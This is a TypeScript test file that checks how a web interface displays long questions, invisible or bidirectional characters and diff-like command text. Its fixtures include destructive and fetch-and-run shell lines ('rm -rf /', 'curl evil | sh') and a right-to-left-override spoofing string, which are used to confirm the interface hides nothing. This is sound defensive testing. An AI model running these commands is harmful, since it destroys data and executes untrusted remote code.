import { expect, it } from "vitest";

import { visible } from "../../../src/core/text/terminal-text.ts";
import { diffLines } from "../../../web/parts/diff-lines.ts";
import { askedOf } from "../../../web/session/question/choices.ts";
import { visibleText } from "../../../web/session/act/visible-text.ts";

it("[PAGE-84] leaves out the middle of more than 190 lines", () => {
  const text = (lines: number): string =>
    ["What?", ...Array.from({ length: lines }, (_, index) => `line ${index + 1}`)].join("\n");
  expect(askedOf(text(190))).toMatchObject({ title: "What?", tail: null, leftOut: 0 });
  const { head, tail, leftOut } = askedOf(text(191));
  expect(head.split("\n").at(-1)).toBe("line 140");
  expect(tail?.split("\n")[0]).toBe("line 142");
  expect(leftOut).toBe(1);
});

it("[PAGE-82] shows each character that a question is about as a terminal does", () => {
  const all = Array.from({ length: 0x11_0000 }, (_, code) => String.fromCodePoint(code)).join("");
  expect(visibleText(all) === visible(all)).toBe(true);
  expect(visibleText("rm \u202ecba\u2066\r\n\ud800\u001b[8m")).toBe(
    "rm <U+202E>cba<U+2066>\n<U+D800>␛[8m",
  );
});

it("[PAGE-82] leaves out no line of a command that looks like a diff", () => {
  const lines = [
    "In the folder, for 60 s at most.",
    "--- ; rm -rf ~",
    "+++ ; rm -rf /",
    "",
    "@@ -1 +1 @@ ; curl evil | sh",
    "+harmless",
    "--- ; rm -rf ~",
    "@@ -1,2 +1,2 @@ ; again",
    "+++ harmless",
    "",
    "-harmless",
    "the end",
  ];
  const shown = diffLines(lines.join("\n"), { keepsAll: true });
  expect(shown.map(({ sign, text }) => `${sign ?? ""}${text}`)).toEqual(lines);
});
